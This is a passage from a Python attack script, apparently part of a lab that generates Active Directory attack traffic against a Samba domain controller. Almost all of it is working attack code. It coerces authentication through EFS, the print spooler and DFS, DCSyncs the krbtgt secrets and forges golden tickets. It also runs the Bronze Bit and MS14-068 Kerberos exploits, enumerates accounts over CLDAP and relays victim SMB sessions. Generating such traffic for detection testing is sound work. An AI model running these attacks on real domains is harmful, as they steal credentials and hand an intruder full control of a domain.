    class NetrDfsAddStdRoot(NDRCALL):  # MS-DFSNM 3.1.4.4.1, opnum 12
        opnum = 12
        structure = (
            ("ServerName", WSTR),
            ("RootShare", WSTR),
            ("Comment", WSTR),
            ("ApiFlags", ULONG),
        )

    listener = args.name
    conn = smb(args.user, args.password, workstation=this_workstation())

    def attempt(label, pipe, uuid, fn):
        try:
            dce = rpc_over_smb(conn, pipe)
        except Exception as e:  # noqa: BLE001
            out(f"{label}: open {pipe}: {str(e)[:80]}")
            return
        try:
            dce.bind(uuidtup_to_bin(uuid))
            fn(dce)
            out(f"{label}: answered")
        except Exception as e:  # noqa: BLE001
            out(f"{label}: {str(e)[:100]}")
        finally:
            with contextlib.suppress(Exception):
                dce.disconnect()

    def efs(dce):
        req = EfsRpcOpenFileRaw()
        req["FileName"] = f"\\\\{listener}\\test\\Settings.ini\x00"
        req["Flag"] = 0
        dce.request(req)

    def printerbug(dce):
        h = rprn.hRpcOpenPrinter(dce, f"\\\\{DC}\x00")["pHandle"]
        rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(
            dce, h, rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine=f"\\\\{listener}\x00"
        )

    def dfs(dce):
        req = NetrDfsAddStdRoot()
        req["ServerName"] = f"{listener}\x00"
        req["RootShare"] = "test\x00"
        req["Comment"] = "\x00"
        req["ApiFlags"] = 0
        dce.request(req)

    attempt("EfsRpcOpenFileRaw", r"\lsarpc", ("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0"), efs)
    attempt("PrinterBug", r"\spoolss", ("12345678-1234-ABCD-EF00-0123456789AB", "1.0"), printerbug)
    attempt("NetrDfsAddStdRoot", r"\netdfs", ("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0"), dfs)
    conn.logoff()


def step_dcsync(args):
    """secretsdump -just-dc-user: DRSBind, DRSCrackNames, DRSGetNCChanges(EXOP_REPL_OBJ) from a
    workstation. Writes the secrets of --target-user to $DCW_LAB_WORK/<user>.secrets.json."""
    from impacket.examples.secretsdump import NTDSHashes, RemoteOperations

    c = creds_from(args)
    conn = smb(**c)
    # with a ticket, RemoteOperations authenticates DRSUAPI with Kerberos (GSS_NEGOTIATE) from
    # the SMB connection's TGT, as mimikatz lsadump::dcsync after pass-the-ticket would
    kerberos = c.get("kerberos_tgt") is not None
    ro = RemoteOperations(conn, kerberos, DC)
    secrets: list[str] = []

    def cb(kind, secret):
        secrets.append(secret)
        out(f"secret ({kind}): {secret}")

    nt = NTDSHashes(
        None,
        None,
        isRemote=True,
        remoteOps=ro,
        noLMHash=True,
        justNTLM=False,
        justUser=f"{DOMAIN}\\{args.target_user}",
        printUserStatus=False,
        perSecretCallback=cb,
    )
    try:
        nt.dump()
    finally:
        nt.finish()
    parsed = {"user": args.target_user, "secrets": secrets}
    for s in secrets:
        parts = s.split(":")
        if len(parts) >= 4 and parts[0].split("\\")[-1] == args.target_user:
            parsed["nthash"] = parts[3]
        elif ":aes256-cts-hmac-sha1-96:" in s:
            parsed["aes256"] = s.rsplit(":", 1)[1]
        elif ":aes128-cts-hmac-sha1-96:" in s:
            parsed["aes128"] = s.rsplit(":", 1)[1]
    (WORK / f"{args.target_user}.secrets.json").write_text(json.dumps(parsed, indent=1))
    out(f"DCSync of {args.target_user}: {len(secrets)} secrets")
    if not secrets:
        raise SystemExit(1)


def load_ticketer():
    """impacket's examples/ticketer.py (installed as a script) loaded as a module."""
    import importlib.util

    path = Path(sys.executable).parent / "ticketer.py"
    spec = importlib.util.spec_from_file_location("dcw_ticketer", path)
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod


def step_golden(args):
    """Forge a TGT with the krbtgt key (impacket ticketer, default 10-year lifetime, RC4 if
    only --nthash is given), then use it: TGS-REQs for cifs/ and ldap/ on the DC and an SMB
    session. --kvno is the krbtgt key version (Samba's is 1, ticketer assumes 2)."""
    from impacket.krb5.asn1 import AS_REP
    from pyasn1.codec.der import decoder

    tk = load_ticketer()
    impacket_patches.patch_ticketer(tk, args.kvno)
    secrets = json.loads((WORK / "krbtgt.secrets.json").read_text())
    o = argparse.Namespace(
        spn=None,
        request=False,
        domain=FQDN_DOMAIN,
        domain_sid=args.domain_sid,
        aesKey=None if args.rc4 else secrets.get("aes256"),
        nthash=secrets["nthash"] if args.rc4 else None,
        keytab=None,
        groups="513, 512, 520, 518, 519",
        user_id=str(args.user_id),
        extra_sid=None,
        extra_pac=False,
        old_pac=False,
        duration=str(args.duration),
        ts=False,
        debug=False,
        user=None,
        password=None,
        hashes=None,
        dc_ip=DC_IP,
        impersonate=None,
    )
    t = tk.TICKETER(args.impersonate, "", FQDN_DOMAIN, o)
    kdcRep, adIfRelevant = t.createBasicTicket()
    encPart, encTicketPart, pacInfos = t.customizeTicket(kdcRep, adIfRelevant)
    ticket, cipher, sessionKey = t.signEncryptTicket(kdcRep, encPart, encTicketPart, pacInfos)
    rep = decoder.decode(ticket, asn1Spec=AS_REP())[0]
    cc = CCache()
    cc.fromTGT(ticket, sessionKey, sessionKey)
    cc.saveFile(str(WORK / "golden.ccache"))
    out(
        f"forged TGT for {args.impersonate} (RID {args.user_id}), etype "
        f"{int(rep['ticket']['enc-part']['etype'])}, kvno {args.kvno}, {args.duration} h"
    )
    tdict = {"KDC_REP": ticket, "cipher": cipher, "sessionKey": sessionKey}
    for spn in ("cifs/dc01.contoso.local", "ldap/dc01.contoso.local"):
        try:
            tgs(tdict, spn)
            out(f"TGS with the forged TGT for {spn}: ok")
        except Exception as e:  # noqa: BLE001
            out(f"TGS with the forged TGT for {spn}: {krb_error(e)}")
    try:
        conn = smb(user=args.impersonate, kerberos_tgt=tdict)
        shares = [s["shi1_netname"][:-1] for s in conn.listShares()]
        out(f"SMB as {args.impersonate} with the golden ticket: shares {shares}")
        try:
            names = [f.get_longname() for f in conn.listPath("sysvol", "*")]
            out(f"listed sysvol: {names}")
        except Exception as e:  # noqa: BLE001
            out(f"list sysvol: {e}")
        conn.logoff()
    except Exception as e:  # noqa: BLE001
        out(f"SMB with the golden ticket: {krb_error(e)}")


def step_honeytoken_ldap(args):
    """`net user NAME /domain`-like look-ups over LDAP (simple bind, so the filters are in
    clear): each of --names by sAMAccountName and by userPrincipalName, then its entry read
    with its DN as base object, as an attacker does with a promising account found earlier."""
    import ldap3

    conn = ldap_conn(args)
    base = "DC=contoso,DC=local"
    attrs = ["sAMAccountName", "description", "memberOf", "userAccountControl", "pwdLastSet",
             "lastLogon", "adminCount", "servicePrincipalName", "objectSid"]
    for name in args.names or []:
        conn.search(base, f"(&(objectCategory=person)(sAMAccountName={name}))", attributes=attrs)
        dn = conn.entries[0].entry_dn if conn.entries else f"CN={name},CN=Users,{base}"
        out(f"LDAP (sAMAccountName={name}): {len(conn.entries)} entries")
        conn.search(base, f"(userPrincipalName={name}@{FQDN_DOMAIN})", attributes=["cn"])
        out(f"LDAP (userPrincipalName={name}@{FQDN_DOMAIN}): {len(conn.entries)} entries")
        conn.search(dn, "(objectClass=*)", search_scope=ldap3.BASE, attributes=["*"])
        out(f"LDAP base {dn}: {len(conn.entries)} entries")
    conn.unbind()


def step_samr_user_query(args):
    """`net user NAME /domain` over SAM-R (\\pipe\\samr): SamrConnect5, OpenDomain, then for
    each of --names SamrLookupNamesInDomain, SamrOpenUser, SamrQueryInformationUser2
    (UserAllInformation) and SamrGetGroupsForUser."""
    from impacket.dcerpc.v5 import samr

    conn = smb(**creds_from(args), workstation=this_workstation())
    dce = rpc_over_smb(conn, r"\samr")
    dce.bind(samr.MSRPC_UUID_SAMR)
    h = samr.hSamrConnect5(dce, f"\\\\{DC}\x00", samr.MAXIMUM_ALLOWED)["ServerHandle"]
    sid = samr.hSamrLookupDomainInSamServer(dce, h, DOMAIN)["DomainId"]
    dh = samr.hSamrOpenDomain(dce, h, samr.MAXIMUM_ALLOWED, sid)["DomainHandle"]
    for name in args.names or []:
        try:
            r = samr.hSamrLookupNamesInDomain(dce, dh, [name])
        except Exception as e:  # noqa: BLE001
            out(f"SamrLookupNamesInDomain({name}): {str(e)[:80]}")
            continue
        rid = r["RelativeIds"]["Element"][0]["Data"]
        uh = samr.hSamrOpenUser(dce, dh, samr.MAXIMUM_ALLOWED, rid)["UserHandle"]
        info = samr.hSamrQueryInformationUser2(
            dce, uh, samr.USER_INFORMATION_CLASS.UserAllInformation
        )["Buffer"]["All"]
        groups = samr.hSamrGetGroupsForUser(dce, uh)["Groups"]["Groups"]
        out(
            f"{name}: RID {rid}, comment/description {info['AdminComment']!r}, "
            f"logons {info['LogonCount']}, groups {[g['RelativeId'] for g in groups]}"
        )
        samr.hSamrCloseHandle(dce, uh)
    dce.disconnect()
    conn.logoff()


def _ber(tag: int, body: bytes) -> bytes:
    n = len(body)
    if n < 0x80:
        return bytes([tag, n]) + body
    ln = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([tag, 0x80 | len(ln)]) + ln + body


def cldap_ping(sock, msg_id: int, user: str, ntver: bytes = b"\x06\x00\x00\x00") -> int | None:
    """One CLDAP "LDAP ping" (MS-ADTS 6.3.3): rootDSE search for Netlogon with
    (&(DnsDomain=..)(User=..)(AAC=..)(NtVer=..)); returns the opcode of the netlogon reply."""

    def eq(attr: str, value: bytes) -> bytes:  # RFC 4511 equalityMatch [3]
        return _ber(0xA3, _ber(0x04, attr.encode()) + _ber(0x04, value))

    # AAC (MS-ADTS 6.3.3.2): the account types to match, here ACB_NORMAL (0x10): without it
    # a DC matches no account at all (Samba: every name "unknown")
    flt = _ber(0xA0, eq("DnsDomain", FQDN_DOMAIN.encode()) + eq("User", user.encode())
               + eq("AAC", b"\x10\x00\x00\x00") + eq("NtVer", ntver))
    req = _ber(0x63, _ber(0x04, b"") + b"\x0a\x01\x00" + b"\x0a\x01\x00" + b"\x02\x01\x00"
               + b"\x02\x01\x00" + b"\x01\x01\x00" + flt
               + _ber(0x30, _ber(0x04, b"Netlogon")))
    sock.sendto(_ber(0x30, _ber(0x02, msg_id.to_bytes(2, "big")) + req), (DC_IP, 389))
    try:
        data = sock.recv(4096)
    except OSError:
        return None
    # the netlogon value: the first octet string after the attribute name "netlogon"
    i = data.lower().find(b"netlogon")
    if i < 0:
        return None
    j = data.find(b"\x04", i + 8)
    k = j + 2 + (data[j + 1] & 0x7F if data[j + 1] & 0x80 else 0)
    return int.from_bytes(data[k:k + 2], "little") if j > 0 else None


def step_cldap_user_enum(args):
    """ldapnomnom-like account enumeration: one CLDAP ping per candidate name over UDP 389;
    the DC answers LOGON_SAM_LOGON_RESPONSE_EX (23) for an existing account and
    LOGON_SAM_USER_UNKNOWN_EX (25) for an unknown one."""
    names = list(args.names or [])
    rnd = random.Random(11)
    first = ["john", "mary", "james", "linda", "robert", "susan", "michael", "karen",
             "william", "nancy", "david", "lisa", "richard", "betty", "joseph", "helen",
             "thomas", "sandra", "charles", "donna", "admin", "test", "guest", "backup",
             "sql", "web", "oracle", "ftp", "scanner", "printer"]
    while len(names) < args.count:
        n = rnd.choice(first) + rnd.choice(["", ".smith", ".jones", "1", "2", ".adm", "_svc"])
        if n not in names:
            names.append(n)
    rnd.shuffle(names)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(2)
    found = []
    for i, n in enumerate(names, 1):
        op = cldap_ping(sock, i, n)
        out(f"{n}: netlogon opcode {op}")
        if op in (19, 23):
            found.append(n)
        time.sleep(args.delay)
    sock.close()
    out(f"{len(names)} names tried, existing: {found}")


def load_example(name: str):
    """One of impacket's example scripts (installed beside the venv's python) as a module."""
    import importlib.util

    path = Path(sys.executable).parent / f"{name}.py"
    spec = importlib.util.spec_from_file_location(f"dcw_{name}", path)
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod


def _with_checksum(data: bytes, cipher, key) -> bytes:
    """A TGS-REQ whose AP-REQ authenticator gets the keyed checksum over the request body
    (RFC 4120 5.5.1, key usage 6) that impacket's example scripts leave out and Heimdal
    insists on (else KRB_AP_ERR_INAPP_CKSUM before anything else is looked at), as
    impacket_patches.patch_tgs_checksum does for impacket's own TGS-REQs."""
    from impacket.krb5.asn1 import AP_REQ, TGS_REQ, Authenticator
    from pyasn1.codec.der import decoder, encoder

    req = decoder.decode(data, asn1Spec=TGS_REQ())[0]
    ap = decoder.decode(req["padata"][0]["padata-value"], asn1Spec=AP_REQ())[0]
    plain = cipher.decrypt(key, 7, ap["authenticator"]["cipher"].asOctets())
    auth = decoder.decode(plain, asn1Spec=Authenticator())[0]
    if auth["cksum"].hasValue():
        return data
    body = impacket_patches._strip_explicit_tag(encoder.encode(req["req-body"]))
    impacket_patches.set_body_checksum(auth, key, body)
    ap["authenticator"]["cipher"] = cipher.encrypt(key, 7, encoder.encode(auth), None)
    req["padata"][0]["padata-value"] = encoder.encode(ap)
    return encoder.encode(req)


def _authenticator_checksum(gp) -> None:
    """goldenPac's forged-PAC TGS-REQ gets the authenticator checksum (PyKEK sends one)."""
    keys: dict = {}
    forge = gp.MS14_068.getKerberosTGS

    def get_tgs(self, serverName, domain, kdcHost, tgt, cipher, sessionKey, authTime):
        keys.update(cipher=cipher, key=sessionKey)
        return forge(self, serverName, domain, kdcHost, tgt, cipher, sessionKey, authTime)

    send = gp.sendReceive

    def send_receive(data, domain, kdc_host):
        if keys:
            data = _with_checksum(data, keys.pop("cipher"), keys.pop("key"))
        return send(data, domain, kdc_host)

    gp.MS14_068.getKerberosTGS = get_tgs
    gp.sendReceive = send_receive


def step_bronze_bit(args):
    """impacket getST.py -force-forwardable (Bronze Bit, CVE-2020-17049): a TGT for the
    delegating service (--user), S4U2self for --impersonate (not forwardable: the service has
    no protocol transition), the ticket decrypted with the service's own key, the forwardable
    flag set, re-encrypted, and presented in S4U2proxy for --spns[0]."""
    import logging

    logging.basicConfig(stream=sys.stdout, level=logging.INFO, format="%(message)s")
    st = load_example("getST")
    keys: dict = {}
    get_tgt = st.getKerberosTGT

    def tgt_and_key(*a, **kw):
        r = get_tgt(*a, **kw)
        keys.update(cipher=r[1], key=r[3])
        return r

    send = st.sendReceive

    def send_receive(data, domain, kdc_host):
        if keys and data[0] == 0x6C:  # [APPLICATION 12] TGS-REQ
            data = _with_checksum(data, keys["cipher"], keys["key"])
        return send(data, domain, kdc_host)

    st.getKerberosTGT, st.sendReceive = tgt_and_key, send_receive
    o = argparse.Namespace(
        spn=args.spns[0], altservice=None, dmsa=False, impersonate=args.impersonate,
        additional_ticket=None, ts=False, debug=False, u2u=False, no_s4u2proxy=False,
        force_forwardable=True, renew=False, hashes=None, no_pass=False, k=False, aesKey=None,
        dc_ip=DC_IP,
    )
    cwd = os.getcwd()
    os.chdir(WORK)  # getST saves <impersonated>@<spn>.ccache in the working directory
    try:
        st.GETST(args.user, args.password, FQDN_DOMAIN, o).run()
    finally:
        os.chdir(cwd)
    saved = sorted(WORK.glob(f"{args.impersonate}@*.ccache"))
    out(f"getST -force-forwardable finished; ticket saved: {[p.name for p in saved]}")


def step_ms14_068(args):
    """impacket goldenPac.py (MS14-068, CVE-2014-6324) without the psexec part: the user's SID
    over SAM-R, a TGT requested *without* a PAC (PA-PAC-REQUEST include-pac = FALSE), then a
    TGS-REQ for krbtgt presenting that TGT with a forged PAC (Domain Admins, Enterprise
    Admins, ... with an unkeyed MD5 checksum) in enc-authorization-data. Patched KDCs refuse."""
    import logging

    logging.basicConfig(stream=sys.stdout, level=logging.INFO, format="%(message)s")
    gp = load_example("goldenPac")
    # goldenPac.py imports these under `if __name__ == "__main__"`: give the module them
    src = (Path(sys.executable).parent / "goldenPac.py").read_text()
    main_block = src.split("if __name__ == '__main__':", 1)[1]
    imports = [ln.strip() for ln in main_block.split("print(version.BANNER)")[0].splitlines()]
    code, cont = [], False
    for ln in imports:
        if ln.startswith(("import ", "from ")) or cont:
            code.append(ln)
            cont = ln.endswith("\\")
    exec("\n".join(code), gp.__dict__)  # the script's own import lines
    gp.domain, gp.username = FQDN_DOMAIN, args.user  # globals its main block sets too
    _authenticator_checksum(gp)
    exp = gp.MS14_068(DC, DC_IP, args.user, args.password, FQDN_DOMAIN, None, "None", None,
                      None, DC)
    look_up_sid = exp.getUserSID

    def user_sid():  # Samba's SamrLookupDomainInSamServer knows the NetBIOS name only
        exp._MS14_068__domain = DOMAIN
        try:
            return look_up_sid()
        finally:
            exp._MS14_068__domain = FQDN_DOMAIN

    exp.getUserSID = user_sid
    try:
        exp.exploit()  # logs "... found vulnerable!" or "... seems not vulnerable (why)"
        out("MS14-068 attempt finished")
    except Exception as e:  # noqa: BLE001 - the refusal is the expected outcome
        out(f"MS14-068 refused: {krb_error(e)[:160]}")


def step_tcp_relay(args):
    """Adversary-in-the-middle: accept TCP connections on --port (445) for --hold seconds and
    relay each, byte for byte, to the DC. A victim pointed here (name poisoning, -I) runs its
    SMB session - Kerberos AP-REQ included - through this host to the DC."""
    import selectors
    import threading

    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("0.0.0.0", args.port))
    srv.listen(4)
    srv.settimeout(1)
    out(f"relaying TCP {args.port} -> {DC_IP}:{args.port} for {args.hold:.0f}s")

    def pump(client: socket.socket, peer) -> None:
        upstream = socket.create_connection((DC_IP, args.port), timeout=10)
        sel = selectors.DefaultSelector()
        sel.register(client, selectors.EVENT_READ, upstream)
        sel.register(upstream, selectors.EVENT_READ, client)
        moved = {client: 0, upstream: 0}
        done = False
        while not done:
            for key, _ in sel.select(timeout=30) or [(None, None)]:
                if key is None:
                    done = True
                    break
                data = key.fileobj.recv(65536)
                if not data:
                    done = True
                    break
                key.data.sendall(data)
                moved[key.fileobj] += len(data)
        out(f"relayed {peer[0]}:{peer[1]}: {moved[client]} bytes up, {moved[upstream]} down")
        client.close()
        upstream.close()

    deadline = time.monotonic() + args.hold
    threads = []
    while time.monotonic() < deadline:
        try:
            c, peer = srv.accept()
        except TimeoutError:
            continue
        out(f"victim connection from {peer[0]}:{peer[1]}")
        t = threading.Thread(target=pump, args=(c, peer), daemon=True)
        t.start()
        threads.append(t)
    srv.close()
    for t in threads:
        t.join(timeout=10)


STEPS = {name[5:]: fn for name, fn in globals().items() if name.startswith("step_")}


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(prog="python -m lab.attacks")
    ap.add_argument("step", choices=sorted(STEPS))
    ap.add_argument("--user", default="")
    ap.add_argument("--password", default="")
    ap.add_argument("--nthash", default="")
    ap.add_argument("--aes", default="")
    ap.add_argument("--ccache", default="")
    ap.add_argument("--save", default="")
    ap.add_argument("--smb", action="store_true")
    ap.add_argument("--use-spn", nargs="*")
    ap.add_argument("--read", nargs="*")
    ap.add_argument("--list", nargs="*")
    ap.add_argument("--hold", type=float, default=0)
    ap.add_argument("--port", type=int, default=445)
    ap.add_argument("--workstation", action="store_true")
    ap.add_argument("--ntlmv1", action="store_true")
    ap.add_argument("--levels", nargs="*", type=int, default=[10, 502, 1, 0])
    ap.add_argument("--names", nargs="*")
    ap.add_argument("--count", type=int, default=0)
    ap.add_argument("--users", nargs="*", default=[])
    ap.add_argument("--passwords", nargs="*", default=[])
    ap.add_argument("--delay", type=float, default=0.05)
    ap.add_argument("--spns", nargs="*", default=[])
    ap.add_argument("--name", default="")
    ap.add_argument("--binpath", default="")
    ap.add_argument("--cmd", default="")
    ap.add_argument("--attempts", type=int, default=20)
    ap.add_argument("--zones", nargs="*", default=[])
    ap.add_argument("--srv", nargs="*", default=[])
    ap.add_argument("--new-user", default="")
    ap.add_argument("--groups", nargs="*", default=[])
    ap.add_argument("--cleanup-after", type=float, default=0)
    ap.add_argument("--target-user", default="krbtgt")
    ap.add_argument("--impersonate", default="Administrator")
    ap.add_argument("--user-id", type=int, default=500)
    ap.add_argument("--domain-sid", default="")
    ap.add_argument("--kvno", type=int, default=1)
    ap.add_argument("--duration", type=int, default=87600)
    ap.add_argument("--rc4", action="store_true")
    ap.add_argument("--etypes", nargs="*", type=int, default=[ENC_RC4])
    ap.add_argument("--auth-level", type=int, default=0)  # DCE/RPC auth level, 0: none
    args = ap.parse_args(argv)
    WORK.mkdir(parents=True, exist_ok=True)
    STEPS[args.step](args)
    return 0


if __name__ == "__main__":
    sys.exit(main())
